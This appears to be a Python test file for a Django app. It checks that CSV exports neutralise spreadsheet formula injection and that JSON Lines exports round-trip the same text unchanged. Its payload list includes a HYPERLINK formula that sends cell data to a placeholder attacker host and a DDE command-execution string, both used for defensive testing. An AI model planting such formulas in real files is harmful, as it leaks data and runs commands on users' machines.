"""Exports open safely in a spreadsheet (no formula cells in CSV) while JSON Lines keep
every byte, so exported references import back unchanged."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.test import Client

from apps.core.csv_cells import csv_cell
from apps.references.models import Reference
from apps.references.services import references_import
from tests import support
from tests.apps.review import factories

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.invalid/?"&A1,"see")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def client_() -> Client:
    client = Client()
    client.force_login(support.make_user("sam", "smes"))
    return client


def _content(response: object) -> str:
    return b"".join(support.streamed(response)).decode()


def _csv(client: Client, kind: str) -> list[dict[str, str]]:
    text = _content(client.get(f"/review/export/{kind}.csv"))
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_no_csv_export_holds_a_formula_cell(client_: Client):
    user = support.make_user("eve", "engineers")
    for number, formula in enumerate(FORMULAS):
        factories.feedback(1, user=user, better_answer=formula, note=formula)
        factories.judgement(2.0, question=f"{formula} #{number}")

    feedback = _csv(client_, "feedback")
    # (feedback_submit strips the text; the questions below keep their tab and CR)
    assert [r["note"] for r in feedback] == ["'" + f.strip() for f in FORMULAS]
    assert [r["better_answer"] for r in feedback] == ["'" + f.strip() for f in FORMULAS]
    judgements = _csv(client_, "judgements")
    assert [r["question"] for r in judgements] == [f"'{f} #{n}" for n, f in enumerate(FORMULAS)]
    # Figures stay figures; ordinary text is untouched.
    assert {r["score"] for r in feedback} == {"1"} and judgements[0]["score"] == "2.0"
    assert judgements[0]["answer"] == "It is 55°F [1]."


def test_the_cell_helper_escapes_only_what_a_spreadsheet_would_run():
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("\t=1") == "'\t=1" and csv_cell("\r-1") == "'\r-1"
    assert csv_cell("a=1") == "a=1" and csv_cell("") == ""
    assert csv_cell(-1.5) == -1.5 and csv_cell(None) is None and csv_cell(True) is True
    assert csv_cell(["-5°F"]) == '["-5\\u00b0F"]'
    assert csv_cell({"k": 1}) == '{"k": 1}'


def test_references_with_formula_text_round_trip_through_json_lines(client_: Client, tmp_path):
    source = tmp_path / "formula-refs.jsonl"
    lines = [
        {
            "id": f"f{number}",
            "question": f"Question {number}?",
            "reference_answer": formula.strip(),
            "quote": formula,
            "key_facts": [formula],
        }
        for number, formula in enumerate(FORMULAS)
    ]
    source.write_text("".join(json.dumps(line) + "\n" for line in lines))
    references_import(path=source, set_name="validation")

    exported = _content(client_.get("/review/export/references.jsonl"))
    records = [json.loads(line) for line in exported.splitlines()]
    assert [r["reference_answer"] for r in records] == [f.strip() for f in FORMULAS]
    assert [r["quote"] for r in records] == FORMULAS
    assert [r["key_facts"] for r in records] == [[f] for f in FORMULAS]

    back = tmp_path / "export.jsonl"
    back.write_text(exported, newline="")
    result = references_import(path=back, set_name="validation")
    assert (result.created, result.updated, result.unchanged) == (0, 0, len(FORMULAS))
    assert sorted(Reference.objects.values_list("answer", flat=True)) == sorted(
        f.strip() for f in FORMULAS
    )
    # And the CSV of the same references is escaped.
    assert {r["reference_answer"][0] for r in _csv(client_, "references")} == {"'"}
